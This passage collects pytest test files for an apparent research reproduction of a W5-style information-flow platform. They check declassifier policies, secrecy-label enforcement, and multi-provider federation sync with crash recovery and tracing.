        with pytest.raises(SecrecyViolation):
            kernel.send(producer, p_out, c_in, {"photo": "stolen.jpg"})

    def test_declassifier_confined_to_its_tag(self, kernel, world):
        """Holding bob's t- gives no power over amy's tag."""
        tag, producer, p_out, consumer, c_in, declas = world
        root = kernel.spawn_trusted("root2")
        amy_tag = kernel.create_tag(root, purpose="amy-data",
                                    tag_owner="amy")
        amy_producer = kernel.spawn_trusted("amy-app", slabel=Label([amy_tag]))
        amy_out = kernel.create_endpoint(amy_producer, direction=SEND)
        # amy's tainted data cannot even reach bob's declassifier inbox
        with pytest.raises(SecrecyViolation):
            kernel.send(amy_producer, amy_out, declas.inbox, "amy-secret")

    def test_fifo_over_multiple_requests(self, kernel, world):
        tag, producer, p_out, consumer, c_in, declas = world
        for i in range(3):
            kernel.send(producer, p_out, declas.inbox, i)
        for expected in range(3):
            assert declas.pump("amy", c_in) == expected

    def test_clock_feeds_policy(self, kernel):
        from repro.declassify import TimeEmbargo
        root = kernel.spawn_trusted("root")
        tag = kernel.create_tag(root, tag_owner="bob")
        producer = kernel.spawn_trusted("app", slabel=Label([tag]))
        p_out = kernel.create_endpoint(producer, direction=SEND)
        consumer = kernel.spawn_trusted("c")
        c_in = kernel.create_endpoint(consumer, direction=RECV)
        clock = {"t": 0.0}
        declas = KernelDeclassifier(kernel, tag,
                                    TimeEmbargoPolicy := TimeEmbargo(
                                        {"release_at": 10.0}),
                                    owner="bob", clock=lambda: clock["t"])
        kernel.send(producer, p_out, declas.inbox, "early")
        with pytest.raises(ReleaseRefused):
            declas.pump("amy", c_in)
        clock["t"] = 11.0
        kernel.send(producer, p_out, declas.inbox, "late")
        assert declas.pump("amy", c_in) == "late"
