"""Unit tests for declassifier combinators."""

import pytest

from repro.declassify import (AllOf, AnyOf, FriendsOnly, Group, Not,
                              Public, ReleaseContext, TimeEmbargo)


def ctx(viewer, now=0.0, owner="bob"):
    return ReleaseContext(owner=owner, viewer=viewer, now=now)


FRIENDS = FriendsOnly({"friends": ["amy", "carl"]})
EMBARGO = TimeEmbargo({"release_at": 100.0})


class TestAllOf:
    def test_conjunction(self):
        policy = AllOf(FRIENDS, EMBARGO)
        # friend before embargo: no
        assert not policy.decide(ctx("amy", now=0.0))
        # friend after embargo: yes
        assert policy.decide(ctx("amy", now=150.0))
        # stranger after embargo: no
        assert not policy.decide(ctx("eve", now=150.0))

    def test_owner_passes_because_children_do(self):
        policy = AllOf(FRIENDS, EMBARGO)
        assert policy.decide(ctx("bob", now=0.0))

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            AllOf()

    def test_nesting(self):
        policy = AllOf(AnyOf(FRIENDS, Group({"members": ["dot"]})),
                       EMBARGO)
        assert policy.decide(ctx("dot", now=200.0))
        assert not policy.decide(ctx("dot", now=0.0))


class TestAnyOf:
    def test_union(self):
        policy = AnyOf(FRIENDS, Group({"members": ["dot"]}))
        assert policy.decide(ctx("amy"))
        assert policy.decide(ctx("dot"))
        assert not policy.decide(ctx("eve"))

    def test_empty_rejected(self):
        with pytest.raises(ValueError):
            AnyOf()


class TestNot:
    def test_inverts_for_others(self):
        policy = Not(FRIENDS)
        assert not policy.decide(ctx("amy"))   # friend now excluded
        assert policy.decide(ctx("eve"))       # stranger now included

    def test_owner_never_locked_out(self):
        policy = Not(Public())
        assert policy.decide(ctx("bob"))
        assert not policy.decide(ctx("eve"))


class TestAuditSurface:
    def test_total_surface_counts_connective_and_children(self):
        policy = AllOf(FRIENDS, EMBARGO)
        total = policy.total_audit_surface()
        assert total >= (FriendsOnly.audit_surface_loc()
                         + TimeEmbargo.audit_surface_loc())
        # still far below any application (the M3 property holds)
        assert total < 80

    def test_duplicate_child_classes_counted_once(self):
        policy = AnyOf(FriendsOnly({"friends": ["a"]}),
                       FriendsOnly({"friends": ["b"]}))
        single = AnyOf(FRIENDS).total_audit_surface()
        assert policy.total_audit_surface() == single


class TestEndToEnd:
    def test_friends_and_embargo_at_the_gateway(self):
        """The composed policy drives real exports."""
        from repro import W5System
        w5 = W5System()
        bob = w5.add_user("bob", apps=["blog"])
        amy = w5.add_user("amy", apps=["blog"])
        w5.provider.revoke_declassifier("bob")  # drop the default grant
        w5.grant_declassifier("bob", AllOf(
            FriendsOnly({"friends": ["amy"]}),
            TimeEmbargo({"release_at": 100.0})))
        bob.get("/app/blog/post", title="trip", body="photos later")
        assert amy.get("/app/blog/read", author="bob",
                       title="trip").status == 403
        w5.provider.declass.now = 150.0
        assert amy.get("/app/blog/read", author="bob", title="trip").ok
