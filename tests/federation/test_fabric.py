"""Tests for the consistent-hash federation fabric (M15)."""

import pytest

from repro.core import Metrics
from repro.federation import (FederationFabric, ProviderDown, SyncError,
                              converged)
from repro.platform import NoSuchUser, ProviderConfig


@pytest.fixture()
def fabric():
    return FederationFabric(4)


def setup_mirrored_user(fabric, username="bob"):
    home = fabric.signup(username, "pw")
    mirror = (home + 1) % len(fabric.providers)
    fabric.mirror(username, mirror)
    return home, mirror


class TestDirectory:
    def test_placement_is_deterministic(self, fabric):
        assert fabric.home_of("bob") == fabric.home_of("bob")
        other = FederationFabric(4)
        assert fabric.home_of("bob") == other.home_of("bob")

    def test_placement_spreads_users(self, fabric):
        homes = {fabric.home_of(f"user{i}") for i in range(40)}
        assert len(homes) >= 2
        assert all(0 <= h < 4 for h in homes)

    def test_signup_lands_on_ring_home(self, fabric):
        home = fabric.signup("bob", "pw")
        assert home == fabric.home_of("bob")
        fabric.provider(home).account("bob")  # exists there
        for i in range(4):
            if i != home:
                with pytest.raises(NoSuchUser):
                    fabric.provider(i).account("bob")

    def test_needs_two_providers(self):
        with pytest.raises(SyncError):
            FederationFabric(1)


class TestMirroring:
    def test_mirror_syncs_data(self, fabric):
        home, mirror = setup_mirrored_user(fabric)
        fabric.store_user_data("bob", "diary", "day one")
        moved = fabric.sync_user("bob")
        assert moved == 1
        assert fabric.provider(mirror).read_user_data(
            "bob", "diary") == "day one"

    def test_mirror_to_home_rejected(self, fabric):
        home = fabric.signup("bob", "pw")
        with pytest.raises(SyncError):
            fabric.mirror("bob", home)

    def test_mirror_unknown_user_rejected(self, fabric):
        with pytest.raises(NoSuchUser):
            fabric.mirror("ghost", 0)

    def test_routed_read_uses_home(self, fabric):
        fabric.signup("bob", "pw")
        fabric.store_user_data("bob", "f", "x")
        assert fabric.read_user_data("bob", "f") == "x"

    def test_links_are_shared_between_pairs(self, fabric):
        assert fabric.link_between(0, 1) is fabric.link_between(1, 0)
        assert fabric.link_between(0, 1) is not fabric.link_between(0, 2)


class TestTransitiveRing:
    """3+ providers: data written at one end reaches the other."""

    def test_chain_a_b_c(self):
        fabric = FederationFabric(3)
        # place bob everywhere, regardless of ring home
        home = fabric.signup("bob", "pw")
        others = [i for i in range(3) if i != home]
        for i in others:
            fabric.mirror("bob", i)
        fabric.store_user_data("bob", "f", "ripple")
        fabric.sync_user("bob")
        for i in range(3):
            assert fabric.provider(i).read_user_data("bob", "f") == "ripple"
        # every (home, mirror) link converged
        for i in others:
            link = fabric.link_between(home, i)
            assert converged(link, "bob")

    def test_chain_through_intermediate(self):
        """A → B → C via two pairwise links (no direct A-C link):
        convergence is transitive across sync rounds."""
        fabric = FederationFabric(3)
        home = fabric.signup("bob", "pw")
        first, second = [i for i in range(3) if i != home]
        fabric.mirror("bob", first)   # home <-> first
        fabric.store_user_data("bob", "f", "hop")
        fabric.link_between(home, first).sync_user("bob")
        # now extend the chain: first <-> second, account made by mirror()
        fabric.mirror("bob", second)
        chain = fabric.link_between(first, second)
        chain.link_account("bob")
        chain.grant_sync("bob")
        chain.sync_user("bob")
        assert fabric.provider(second).read_user_data("bob", "f") == "hop"


class TestFailureRecovery:
    def test_read_fails_over_to_mirror(self, fabric):
        home, mirror = setup_mirrored_user(fabric)
        fabric.store_user_data("bob", "f", "survives")
        fabric.sync_user("bob")
        fabric.crash(home)
        assert fabric.read_user_data("bob", "f") == "survives"

    def test_read_with_no_live_copy_raises(self, fabric):
        home = fabric.signup("bob", "pw")
        fabric.store_user_data("bob", "f", "x")
        fabric.crash(home)
        with pytest.raises(ProviderDown):
            fabric.read_user_data("bob", "f")

    def test_recovery_replays_journal_and_reattaches(self, fabric):
        home, mirror = setup_mirrored_user(fabric)
        fabric.store_user_data("bob", "f", "v1")
        fabric.sync_user("bob")
        link = fabric.link_between(home, mirror)
        before = link.federation_stats()["full_recons"]
        fabric.crash(home)
        report = fabric.recover(home)
        assert report is not None
        # the write survived the crash via journal replay
        assert fabric.read_user_data("bob", "f") == "v1"
        # cursors were invalidated: next round is one full recon...
        fabric.store_user_data("bob", "g", "v2")
        assert fabric.sync_user("bob") == 1
        stats = link.federation_stats()
        assert stats["full_recons"] == before + 1
        # ...and after it, delta rounds resume
        delta_before = stats["delta_rounds"]
        fabric.sync_user("bob")
        assert link.federation_stats()["delta_rounds"] == delta_before + 1
        assert fabric.provider(mirror).read_user_data("bob", "g") == "v2"

    def test_sync_skips_downed_side_and_resumes(self, fabric):
        home, mirror = setup_mirrored_user(fabric)
        fabric.store_user_data("bob", "f", "v1")
        fabric.crash(mirror)
        assert fabric.sync_user("bob") == 0  # peer down: no sync
        fabric.recover(mirror)
        assert fabric.sync_user("bob") == 1

    def test_recover_without_crash_rejected(self, fabric):
        with pytest.raises(SyncError):
            fabric.recover(0)

    def test_crashed_provider_is_unaddressable(self, fabric):
        fabric.crash(2)
        with pytest.raises(ProviderDown):
            fabric.provider(2)


class TestObservability:
    def test_metrics_attach_fabric(self, fabric):
        from repro.fs import FsView
        home, mirror = setup_mirrored_user(fabric)
        fabric.store_user_data("bob", "f", "x" * 100)
        fabric.sync_user("bob")  # full recon: moves via the naive twin
        # edit on the link's A side so the new bytes win the round
        provider = fabric.provider(min(home, mirror))
        agent = provider._user_agent(provider.account("bob"))
        FsView(provider.fs, agent).write("/users/bob/f", "y" * 120)
        provider.kernel.exit(agent)
        fabric.sync_user("bob")  # delta round: moves via envelopes
        metrics = Metrics(fabric.provider(home).kernel.audit)
        metrics.attach(fabric)
        snap = metrics.federation_snapshot()
        assert snap["providers"] == 4 and snap["links"] == 1
        assert snap["transfers"] == 2
        assert snap["envelopes_sent"] == 1
        assert snap["bytes_moved"] >= 120
        per_link = snap["per_link"][0]
        assert per_link["delta_sync"] is True
        assert per_link["full_recons"] == 1 and per_link["delta_rounds"] == 1

    def test_metrics_attach_single_link(self, fabric):
        home, mirror = setup_mirrored_user(fabric)
        link = fabric.link_between(home, mirror)
        metrics = Metrics(fabric.provider(home).kernel.audit).attach(link)
        assert metrics.federation_snapshot()["linked_users"] == 1

    def test_envelope_dedup_counts(self, fabric):
        """A file rewritten with identical bytes is suppressed at the
        transport layer (the seen-digest cache), not re-shipped."""
        from repro.fs import FsView
        home, mirror = setup_mirrored_user(fabric)
        fabric.store_user_data("bob", "f", "same")
        fabric.sync_user("bob")
        # rewrite identical bytes on the link's A side: its digest
        # matches what the channel knows B holds, so nothing ships
        provider = fabric.provider(min(home, mirror))
        agent = provider._user_agent(provider.account("bob"))
        FsView(provider.fs, agent).write("/users/bob/f", "same")
        provider.kernel.exit(agent)
        assert fabric.sync_user("bob") == 0
        assert fabric.federation_stats()["envelopes_deduped"] >= 1

    def test_sync_spans_reach_trace_report(self):
        fabric = FederationFabric(2, tracing=True)
        for provider in fabric.providers:
            provider.tracer.fold_every = 1  # fold every trace's children
        home = fabric.signup("bob", "pw")
        mirror = 1 - home
        fabric.mirror("bob", mirror)
        fabric.store_user_data("bob", "f", "v1")
        fabric.sync_user("bob")  # full recon under a fed.sync request
        # dirty a file so the next round ships an envelope batch
        from repro.fs import FsView
        provider = fabric.provider(home)
        agent = provider._user_agent(provider.account("bob"))
        FsView(provider.fs, agent).write("/users/bob/f", "v2")
        provider.kernel.exit(agent)
        fabric.sync_user("bob")
        lower = fabric.provider(min(home, mirror))
        upper = fabric.provider(max(home, mirror))
        report = lower.trace_report()
        assert "fed.sync" in report["latencies"]
        # Since M16 the envelope span folds on whichever provider
        # *applied* the batch; destination-side spans are grafted back
        # under fed.sync rather than mis-attached to side A's tracer.
        names = set(report["latencies"]) \
            | set(upper.trace_report().get("latencies", {}))
        assert "fed.envelope" in names

    def test_sync_trace_stitches_remote_envelope(self):
        """The fed.sync trace is one tree: a remote-side fed.envelope
        shows up grafted under the root, tagged with its origin."""
        fabric = FederationFabric(2, tracing=True)
        for provider in fabric.providers:
            provider.tracer.fold_every = 1
        home = fabric.signup("bob", "pw")
        fabric.mirror("bob", 1 - home)
        fabric.store_user_data("bob", "f", "v1")
        fabric.sync_user("bob")
        # dirty the home copy: the next round ships home -> mirror
        from repro.fs import FsView
        provider = fabric.provider(home)
        agent = provider._user_agent(provider.account("bob"))
        FsView(provider.fs, agent).write("/users/bob/f", "v2")
        provider.kernel.exit(agent)
        fabric.sync_user("bob")
        lower = fabric.provider(0)
        syncs = [t for t in lower.recorder.dump()["slowest"]
                 if t["root"] and t["root"]["name"] == "fed.sync"]
        assert syncs

        def names(span):
            yield span["name"], span["attrs"]
            for child in span["children"]:
                yield from names(child)

        seen = [pair for trace in syncs for pair in names(trace["root"])]
        envelopes = [attrs for name, attrs in seen if name == "fed.envelope"]
        assert envelopes, "no fed.envelope anywhere in the fed.sync trees"
        if home == 0:
            # batch applied on provider 1 -> must arrive as a graft
            assert any("origin" in attrs for attrs in envelopes)
            grafted = [t for t in syncs if t.get("grafts")]
            assert grafted and all(t.get("orphan_grafts", 0) == 0
                                   for t in grafted)

    def test_health_report_crash_recover_cycle(self):
        """crash() flips the fleet view to down; recover() brings the
        provider back but leaves the link degraded (stale cursors)
        until one sync round re-attaches them."""
        fabric = FederationFabric(
            2, provider_config=ProviderConfig.durable())
        home = fabric.signup("bob", "pw")
        fabric.mirror("bob", 1 - home)
        fabric.store_user_data("bob", "f", "v1")
        fabric.sync_user("bob")
        report = fabric.health_report()
        assert report["state"] == "ok"
        assert report["providers"]["provider:0"]["state"] == "ok"
        assert report["links"]["link:0<->1"]["state"] == "ok"
        lag = report["links"]["link:0<->1"]["cursor_lag"]["bob"]
        assert lag == {"a": 0, "b": 0}

        fabric.crash(home)
        report = fabric.health_report()
        assert report["state"] == "down"
        assert report["providers"][f"provider:{home}"]["state"] == "down"
        link = report["links"]["link:0<->1"]
        assert link["state"] == "degraded"
        assert any("peer down" in r for r in link["reasons"])

        fabric.recover(home)
        report = fabric.health_report()
        # provider is back, but the link's cursors were invalidated:
        # degraded (full recon pending) until the next sync round
        assert report["providers"][f"provider:{home}"]["state"] == "ok"
        link = report["links"]["link:0<->1"]
        assert link["state"] == "degraded"
        assert any("stale cursor" in r for r in link["reasons"])
        assert report["state"] == "degraded"

        fabric.sync_user("bob")
        report = fabric.health_report()
        assert report["state"] == "ok"
        assert report["links"]["link:0<->1"]["reasons"] == []
