"""Transitive federation: three providers in a chain (§3.3 'more
elaborate systems, wherein providers have explicit peering
arrangements')."""

import pytest

from repro.federation import ProviderLink, converged
from repro.platform import Provider


@pytest.fixture()
def chain():
    providers = [Provider(name=f"w5-{x}") for x in ("a", "b", "c")]
    for p in providers:
        p.signup("bob", "pw")
    ab = ProviderLink(providers[0], providers[1])
    bc = ProviderLink(providers[1], providers[2])
    for link in (ab, bc):
        link.link_account("bob")
        link.grant_sync("bob")
    return providers, ab, bc


class TestChain:
    def test_data_propagates_transitively(self, chain):
        (a, b, c), ab, bc = chain
        a.store_user_data("bob", "f", "born-on-a")
        ab.sync_user("bob")
        bc.sync_user("bob")
        assert c.read_user_data("bob", "f") == "born-on-a"

    def test_reverse_propagation(self, chain):
        (a, b, c), ab, bc = chain
        c.store_user_data("bob", "g", "born-on-c")
        bc.sync_user("bob")
        ab.sync_user("bob")
        assert a.read_user_data("bob", "g") == "born-on-c"

    def test_full_mesh_convergence_rounds(self, chain):
        """After edits land on all three, two rounds of each link
        converge the chain (diameter-bounded propagation)."""
        (a, b, c), ab, bc = chain
        a.store_user_data("bob", "fa", "A")
        b.store_user_data("bob", "fb", "B")
        c.store_user_data("bob", "fc", "C")
        for __ in range(2):
            ab.sync_user("bob")
            bc.sync_user("bob")
        assert converged(ab, "bob") and converged(bc, "bob")
        for p in (a, b, c):
            assert p.read_user_data("bob", "fa") == "A"
            assert p.read_user_data("bob", "fb") == "B"
            assert p.read_user_data("bob", "fc") == "C"

    def test_policy_holds_on_every_hop(self, chain):
        (a, b, c), ab, bc = chain
        a.store_user_data("bob", "secret", "CHAIN-SECRET")
        ab.sync_user("bob")
        bc.sync_user("bob")
        from repro.fs import FsView
        from repro.labels import SecrecyViolation
        for p in (a, b, c):
            snoop = p.kernel.spawn_trusted("snoop")
            with pytest.raises(SecrecyViolation):
                FsView(p.fs, snoop).read("/users/bob/secret")
