"""Differential proof: delta sync ≡ the naive content reconciler.

Two isolated worlds run the *same* random schedule of file edits,
deletions, row inserts/updates/deletes, checkpoints (which reset the
journal and force the delta engine's cursors stale) and sync points —
one world on ``FederationConfig.naive()``, one on the default
journal-cursor delta engine.  After the schedule the worlds must be
indistinguishable: identical file bytes, identical row multisets with
identical (symbolic) label protection on both providers, and the same
per-sync transfer counts.  This is the M15 acceptance criterion: the
optimization changes *how* dirty state is found, never *what* moves
or how the mirror is protected (C6).
"""

from collections import Counter

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.federation import FederationConfig, ProviderLink
from repro.federation.peering import _row_key, _snapshot
from repro.fs import FsView
from repro.labels import Label, SecrecyViolation
from repro.platform import Provider


def build_world(config):
    a = Provider(name="A")
    b = Provider(name="B")
    for p in (a, b):
        p.signup("bob", "pw")
        p.signup("eve", "pw")
    link = ProviderLink(a, b, config=config)
    link.link_account("bob")
    link.grant_sync("bob")
    return a, b, link


def with_agent(provider, fn):
    agent = provider._user_agent(provider.account("bob"))
    try:
        return fn(agent)
    finally:
        provider.kernel.exit(agent)


def apply_op(provider, op, slot, content):
    def run(agent):
        fs = FsView(provider.fs, agent)
        path = f"/users/bob/f{slot}"
        if op == "file":
            if fs.exists(path):
                fs.write(path, f"c{content}")
            else:
                fs.create(path, f"c{content}")
        elif op == "fdel":
            if fs.exists(path):
                fs.delete(path)
        else:
            if "posts" not in provider.db.tables():
                provider.db.create_table(agent, "posts")
            if op == "row":
                provider.db.insert(agent, "posts",
                                   {"slot": slot, "content": content})
            elif op == "rupd":
                provider.db.update(agent, "posts", where={"slot": slot},
                                   changes={"content": content})
            elif op == "rdel":
                provider.db.delete(agent, "posts", where={"slot": slot})
    with_agent(provider, run)


def row_state(provider):
    """Multiset of (table, content key, symbolic labels) over every
    row on the provider — label-faithful, provider-relative."""
    data_tag = provider.account("bob").data_tag
    write_tag = provider.account("bob").write_tag
    def symbol(tag):
        if tag == data_tag:
            return "bob.data"
        if tag == write_tag:
            return "bob.write"
        return f"other:{tag.name}"
    state: Counter = Counter()
    for table_name in sorted(provider.db.tables()):
        table = provider.db.table(table_name)
        for row in table.rows.values():
            state[(table_name, _row_key(row.values),
                   tuple(sorted(symbol(t) for t in row.slabel)),
                   tuple(sorted(symbol(t) for t in row.ilabel)))] += 1
    return state


#: (op, side, file/row slot, content id, sync-after?)
ops = st.lists(
    st.tuples(
        st.sampled_from(["file", "file", "file", "fdel", "row", "row",
                         "rupd", "rdel", "ckpt"]),
        st.sampled_from(["A", "B"]),
        st.integers(0, 3),
        st.integers(0, 5),
        st.booleans()),
    max_size=18)


class TestDeltaNaiveEquivalence:
    @settings(max_examples=60, deadline=None)
    @given(ops)
    def test_worlds_are_indistinguishable(self, schedule):
        worlds = {
            "naive": build_world(FederationConfig.naive()),
            "delta": build_world(FederationConfig.delta()),
        }
        moved: dict[str, list[int]] = {"naive": [], "delta": []}
        for op, side, slot, content, sync_after in schedule:
            for name, (a, b, link) in worlds.items():
                provider = a if side == "A" else b
                if op == "ckpt":
                    if provider._durability is not None:
                        provider._durability.checkpoint()
                else:
                    apply_op(provider, op, slot, content)
                if sync_after:
                    moved[name].append(link.sync_user("bob"))
        for name, (a, b, link) in worlds.items():
            moved[name].append(link.sync_user("bob"))
        # identical transfer counts at every sync point
        assert moved["delta"] == moved["naive"]
        # identical file bytes on each provider
        for index in (0, 1):
            assert _snapshot(worlds["delta"][index], "bob") == \
                _snapshot(worlds["naive"][index], "bob")
        # identical rows under identical label protection (C6)
        for index in (0, 1):
            assert row_state(worlds["delta"][index]) == \
                row_state(worlds["naive"][index])

    @settings(max_examples=25, deadline=None)
    @given(ops)
    def test_delta_fixpoint_is_quiet(self, schedule):
        a, b, link = build_world(FederationConfig.delta())
        for op, side, slot, content, __ in schedule:
            provider = a if side == "A" else b
            if op == "ckpt":
                provider._durability.checkpoint()
            else:
                apply_op(provider, op, slot, content)
        link.sync_user("bob")
        assert link.sync_user("bob") == 0
        assert link.sync_user("bob") == 0

    @settings(max_examples=20, deadline=None)
    @given(ops)
    def test_mirror_stays_protected_under_delta(self, schedule):
        """C6 on the delta path: whatever the schedule did, eve can
        never read bob's mirrored files on either provider."""
        a, b, link = build_world(FederationConfig.delta())
        for op, side, slot, content, __ in schedule:
            provider = a if side == "A" else b
            if op == "ckpt":
                provider._durability.checkpoint()
            else:
                apply_op(provider, op, slot, content)
        link.sync_user("bob")
        for provider in (a, b):
            names = _snapshot(provider, "bob")
            snoop = provider.kernel.spawn_trusted("eve-snoop")
            fs = FsView(provider.fs, snoop)
            for name in names:
                with pytest.raises(SecrecyViolation):
                    fs.read(f"/users/bob/{name}")
            provider.kernel.exit(snoop)
