"""Property tests: federation convergence under random edit schedules."""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.federation import ProviderLink, converged
from repro.fs import FsView
from repro.platform import Provider


def build_link():
    a = Provider(name="A")
    b = Provider(name="B")
    for p in (a, b):
        p.signup("bob", "pw")
    link = ProviderLink(a, b)
    link.link_account("bob")
    link.grant_sync("bob")
    return a, b, link


def apply_edit(provider, filename, content):
    account = provider.account("bob")
    agent = provider._user_agent(account)
    fs = FsView(provider.fs, agent)
    path = f"/users/bob/{filename}"
    if fs.exists(path):
        fs.write(path, content)
    else:
        fs.create(path, content)
    provider.kernel.exit(agent)


#: Each event: (side, file slot, content id, sync-after?)
events = st.lists(
    st.tuples(st.sampled_from(["A", "B"]), st.integers(0, 3),
              st.integers(0, 9), st.booleans()),
    max_size=20)


class TestFederationConvergence:
    @settings(max_examples=40, deadline=None)
    @given(events)
    def test_one_final_round_always_converges(self, schedule):
        a, b, link = build_link()
        for side, slot, content, sync_after in schedule:
            provider = a if side == "A" else b
            apply_edit(provider, f"f{slot}", f"content-{content}")
            if sync_after:
                link.sync_user("bob")
        link.sync_user("bob")
        assert converged(link, "bob")

    @settings(max_examples=30, deadline=None)
    @given(events)
    def test_sync_is_idempotent_at_fixpoint(self, schedule):
        a, b, link = build_link()
        for side, slot, content, __ in schedule:
            provider = a if side == "A" else b
            apply_edit(provider, f"f{slot}", f"content-{content}")
        link.sync_user("bob")
        assert link.sync_user("bob") == 0

    @settings(max_examples=30, deadline=None)
    @given(events)
    def test_no_data_invented(self, schedule):
        """Every file on either side after syncing carries content some
        edit actually wrote."""
        a, b, link = build_link()
        written = set()
        for side, slot, content, sync_after in schedule:
            provider = a if side == "A" else b
            payload = f"content-{content}"
            apply_edit(provider, f"f{slot}", payload)
            written.add(payload)
            if sync_after:
                link.sync_user("bob")
        link.sync_user("bob")
        from repro.federation.peering import _snapshot
        for provider in (a, b):
            for value in _snapshot(provider, "bob").values():
                assert value in written
