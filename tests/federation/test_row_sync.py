"""Tests for database-row mirroring between linked providers."""

import pytest

from repro.apps import install_standard_apps
from repro.federation import ProviderLink
from repro.labels import Label
from repro.net import ExternalClient
from repro.platform import Provider


@pytest.fixture()
def world():
    a = Provider(name="w5-alpha")
    b = Provider(name="w5-beta")
    for p in (a, b):
        install_standard_apps(p)
        p.signup("bob", "pw")
        p.signup("eve", "pw")
        p.enable_app("bob", "blog")
        p.enable_app("eve", "blog")
    link = ProviderLink(a, b)
    link.link_account("bob")
    link.grant_sync("bob")
    return a, b, link


def login(provider, name):
    c = ExternalClient(name, provider.transport())
    c.login("pw")
    return c


class TestRowSync:
    def test_blog_posts_mirror(self, world):
        a, b, link = world
        bob_a = login(a, "bob")
        bob_a.get("/app/blog/post", title="hello", body="from alpha")
        link.sync_user("bob")
        # grant the mirror side's reader (bob reads his own data on B)
        b.grant_builtin_declassifier("bob", "friends-only", {"friends": []})
        bob_b = login(b, "bob")
        r = bob_b.get("/app/blog/read", title="hello")
        assert r.ok and r.body["body"] == "from alpha"

    def test_mirror_is_idempotent(self, world):
        a, b, link = world
        bob_a = login(a, "bob")
        bob_a.get("/app/blog/post", title="t", body="b")
        first = link.sync_user("bob")
        second = link.sync_user("bob")
        assert first >= 1 and second == 0

    def test_mirrored_rows_carry_destination_labels(self, world):
        a, b, link = world
        bob_a = login(a, "bob")
        bob_a.get("/app/blog/post", title="t", body="SECRET-ON-BETA")
        link.sync_user("bob")
        snoop = b.kernel.spawn_trusted("snoop")
        rows = b.db.select(snoop, "blog_posts")
        assert rows == []  # invisible to strangers on B
        cleared = b.kernel.spawn_trusted(
            "c", slabel=Label([b.account("bob").data_tag]))
        assert len(b.db.select(cleared, "blog_posts")) == 1

    def test_unlinked_users_rows_stay(self, world):
        a, b, link = world
        eve_a = login(a, "eve")
        eve_a.get("/app/blog/post", title="evepost", body="eve-only")
        link.sync_user("bob")
        # nothing of eve's moved: the table was never even created on B
        from repro.db import NoSuchTable
        cleared = b.kernel.spawn_trusted(
            "c", slabel=Label([b.account("eve").data_tag]))
        try:
            rows = b.db.select(cleared, "blog_posts")
        except NoSuchTable:
            rows = []
        assert rows == []

    def test_bidirectional_row_sync(self, world):
        a, b, link = world
        bob_a = login(a, "bob")
        bob_b = login(b, "bob")
        bob_a.get("/app/blog/post", title="from-a", body="x")
        bob_b.get("/app/blog/post", title="from-b", body="y")
        link.sync_user("bob")
        titles_a = {r["title"] for r in a.db.select(
            a.kernel.spawn_trusted(
                "c", slabel=Label([a.account("bob").data_tag])),
            "blog_posts")}
        assert titles_a == {"from-a", "from-b"}
