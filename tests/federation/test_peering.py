"""Unit tests for provider peering and account mirroring."""

import pytest

from repro.federation import (FederationConfig, ProviderLink, SyncError,
                              converged)
from repro.fs import FsView
from repro.platform import NoSuchUser, NotAuthorized, Provider


@pytest.fixture()
def providers():
    a = Provider(name="w5-alpha")
    b = Provider(name="w5-beta")
    a.signup("bob", "pw")
    b.signup("bob", "pw")
    a.signup("eve", "pw")
    b.signup("eve", "pw")
    return a, b


@pytest.fixture()
def link(providers):
    a, b = providers
    return ProviderLink(a, b)


class TestLinking:
    def test_self_peering_rejected(self, providers):
        a, __ = providers
        with pytest.raises(SyncError):
            ProviderLink(a, a)

    def test_link_requires_both_accounts(self, link):
        with pytest.raises(NoSuchUser):
            link.link_account("ghost")

    def test_link_and_state(self, link):
        state = link.link_account("bob")
        assert not state.granted_on_a and not state.granted_on_b
        assert link.state_of("bob") is state
        assert link.state_of("nobody") is None

    def test_sync_without_link_fails(self, link):
        with pytest.raises(SyncError):
            link.sync_user("bob")

    def test_sync_without_grants_fails(self, link):
        link.link_account("bob")
        with pytest.raises(NotAuthorized):
            link.sync_user("bob")

    def test_one_sided_grant_insufficient(self, link):
        link.link_account("bob")
        link.grant_sync("bob", on="a")
        with pytest.raises(NotAuthorized):
            link.sync_user("bob")


class TestSync:
    def _full_link(self, link):
        link.link_account("bob")
        link.grant_sync("bob")
        return link

    def test_a_to_b_propagation(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "diary.txt", "day one")
        moved = link.sync_user("bob")
        assert moved == 1
        assert b.read_user_data("bob", "diary.txt") == "day one"
        assert converged(link, "bob")

    def test_b_to_a_propagation(self, providers, link):
        a, b = providers
        self._full_link(link)
        b.store_user_data("bob", "notes.txt", "from beta")
        link.sync_user("bob")
        assert a.read_user_data("bob", "notes.txt") == "from beta"

    def test_update_propagates(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "v1")
        link.sync_user("bob")
        # user edits on A; next round carries the edit
        agent = a._user_agent(a.account("bob"))
        FsView(a.fs, agent).write("/users/bob/f", "v2")
        a.kernel.exit(agent)
        link.sync_user("bob")
        assert b.read_user_data("bob", "f") == "v2"

    def test_sync_is_idempotent(self, providers, link):
        a, __ = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "v1")
        assert link.sync_user("bob") == 1
        assert link.sync_user("bob") == 0

    def test_conflict_resolves_deterministically(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "f", "from-A")
        b.store_user_data("bob", "f", "from-B")
        link.sync_user("bob")
        # A is pumped first: A's content wins on both sides
        assert a.read_user_data("bob", "f") == "from-A"
        assert b.read_user_data("bob", "f") == "from-A"
        assert converged(link, "bob")

    def test_only_linked_users_data_moves(self, providers, link):
        a, b = providers
        self._full_link(link)
        a.store_user_data("eve", "private.txt", "eves-stuff")
        link.sync_user("bob")
        # eve never linked: her file stays on A only
        from repro.fs import NoSuchPath
        with pytest.raises(Exception):
            b.read_user_data("eve", "private.txt")

    def test_mirrored_data_still_protected_on_b(self, providers, link):
        """The §3.3 requirement: the mirror is as protected on B as the
        original on A — eve on B cannot read bob's mirrored diary."""
        a, b = providers
        self._full_link(link)
        a.store_user_data("bob", "diary.txt", "BOBS-MIRRORED-SECRET")
        link.sync_user("bob")
        eve_proc = b.kernel.spawn_trusted("eve-snoop")
        from repro.labels import SecrecyViolation
        with pytest.raises(SecrecyViolation):
            FsView(b.fs, eve_proc).read("/users/bob/diary.txt")

    def test_transfer_counter(self, providers, link):
        a, __ = providers
        self._full_link(link)
        a.store_user_data("bob", "f1", "x")
        a.store_user_data("bob", "f2", "y")
        link.sync_user("bob")
        assert link.state_of("bob").transfers == 2


